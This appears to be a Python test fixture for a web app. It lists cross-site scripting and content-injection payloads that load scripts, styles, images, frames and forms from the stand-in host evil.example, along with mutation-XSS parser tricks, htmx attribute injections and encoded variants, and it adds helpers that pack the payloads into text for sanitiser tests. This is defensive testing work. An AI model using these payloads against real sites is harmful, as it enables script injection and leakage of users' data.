"""Texts that become active where a page forgets to escape or to clean: ours and foreign ones."""

from __future__ import annotations

from tests.web.test_learn import PAYLOADS as HERE

# What would leave for another site, or hide behind a second reading of the same text.
ELSEWHERE = [
    "<img src=https://evil.example/a.png>",
    "![a](https://evil.example/b.png)",
    "![a](//evil.example/c.png)",
    "<picture><source srcset=https://evil.example/d.png><img src=x></picture>",
    "<video poster=https://evil.example/e.png src=https://evil.example/e.mp4></video>",
    "<iframe src=https://evil.example/></iframe>",
    "<link rel=stylesheet href=https://evil.example/f.css>",
    "<style>body{background:url(https://evil.example/g.png)}</style>",
    "<p style=background:url(https://evil.example/h.png)>x</p>",
    "<script src=https://evil.example/i.js></script>",
    "<object data=https://evil.example/j.swf></object>",
    "<form action=https://evil.example/><input name=a><button>x</button></form>",
    "<svg><image href=https://evil.example/k.png /><use href=https://evil.example/l.svg#a /></svg>",
    "<div hx-get=https://evil.example/m hx-trigger=load>x</div>",
    "<div hx-get=/account/ hx-trigger=load hx-on::load=window.__x=1>x</div>",
    "<div data-hx-on:click=window.__x=1 hx-vals=js:{a:window.__x=1} hx-trigger=load>x</div>",
    "<noscript><style></noscript><img src=x onerror=window.__x=1></style>",
    "<svg></p><style><a id='</style><img src=x onerror=window.__x=1>'>",
    "<math><annotation-xml encoding=text/html><style></math><img src=x onerror=window.__x=1>",
    "&lt;img src=x onerror=window.__x=1&gt;",
    "%3Cscript%3Ewindow.__x=1%3C/script%3E",
    "\\<img src=x onerror=window.__x=1\\>",
]
PAYLOADS = [*HERE, *ELSEWHERE]


def lines(limit: int) -> list[str]:
    """All payloads as lines of at most `limit` characters, as many to a line as fit."""
    packed = [""]
    for payload in (" ".join(each.split()) for each in PAYLOADS):
        if len(packed[-1]) + len(payload) + 1 > limit:
            packed.append("")
        packed[-1] = f"{packed[-1]} {payload}".strip()
    return packed


def blocks(text_number: int, *, of: int) -> str:
    """One of `of` Markdown texts that hold all payloads between them, a paragraph each."""
    return "\n\n".join(f"{payload}\n\nThen words." for payload in PAYLOADS[text_number::of])
